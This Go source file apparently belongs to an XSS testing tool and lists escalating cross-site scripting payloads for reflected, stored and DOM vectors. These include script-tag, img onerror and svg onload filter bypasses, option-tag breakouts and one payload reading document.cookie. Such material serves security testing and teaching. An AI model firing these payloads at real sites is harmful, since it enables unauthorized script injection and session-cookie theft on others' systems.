/*
Author: KleaSCM
Email: KleaSCM@gmail.com
File: payloads.go
Description: Ordered payload variant sets for each delivery vector. Variants escalate
from the plain script tag through attribute-breakout and alternate tag/event-handler
forms, so a filtered first attempt automatically falls through to the next bypass
candidate.
*/

package strategies

// Variant is one payload in a vector's escalation order.
type Variant struct {
	Payload     string
	Name        string
	Explanation string
}

// ReflectedVariants returns the escalating payload list for the reflected
// vector. Order matters: the injector stops at the first success.
func ReflectedVariants() []Variant {
	return []Variant{
		{
			Payload:     "<script>alert(1)</script>",
			Name:        "basic-script-tag",
			Explanation: "The canonical XSS probe: a bare script element. Succeeds only when the target performs no output encoding at all.",
		},
		{
			Payload:     "<img src=x onerror=alert(1)>",
			Name:        "img-onerror",
			Explanation: "An image with an invalid source whose error handler runs JavaScript. Bypasses filters that only strip the word 'script'.",
		},
		{
			Payload:     "<svg/onload=alert(1)>",
			Name:        "svg-onload",
			Explanation: "An SVG element whose onload handler fires immediately. The slash instead of a space defeats naive tag tokenizers.",
		},
	}
}

// StoredVariants returns the escalating payload list for the stored vector.
func StoredVariants() []Variant {
	return []Variant{
		{
			Payload:     "<script>alert('Stored XSS')</script>",
			Name:        "basic-script-tag",
			Explanation: "Basic script injection. Once persisted, it executes for every visitor of the page.",
		},
		{
			Payload:     "<img src=x onerror=alert('XSS')>",
			Name:        "img-onerror",
			Explanation: "Image error handler form, for targets that filter script tags on write.",
		},
		{
			Payload:     "<svg/onload=alert('XSS')>",
			Name:        "svg-onload",
			Explanation: "SVG onload event form, the last fallback in the fixed variant set.",
		},
	}
}

// DOMExploit is a crafted URL payload for the client-side-only vector. These
// are reported as guidance: the sink fires in a browser, never on the server.
type DOMExploit struct {
	Payload     string
	Explanation string
}

// DOMExploits returns the crafted ?default= payloads for the DOM vector.
func DOMExploits() []DOMExploit {
	return []DOMExploit{
		{
			Payload:     "<script>alert('DOM XSS')</script>",
			Explanation: "Basic script injection via the URL parameter the page's JavaScript writes into the document.",
		},
		{
			Payload:     "English</option><script>alert(1)</script>",
			Explanation: "Breaks out of the <option> tag context before injecting the script element.",
		},
		{
			Payload:     "English</option><option value='tlh' selected>Klingon (tlh)</option>",
			Explanation: "Injects a brand-new dropdown entry to prove DOM control without an alert box.",
		},
		{
			Payload:     "English</option><img src=x onerror=alert(document.cookie)>",
			Explanation: "Image error handler that reads the session cookie, showing the real-world impact.",
		},
	}
}
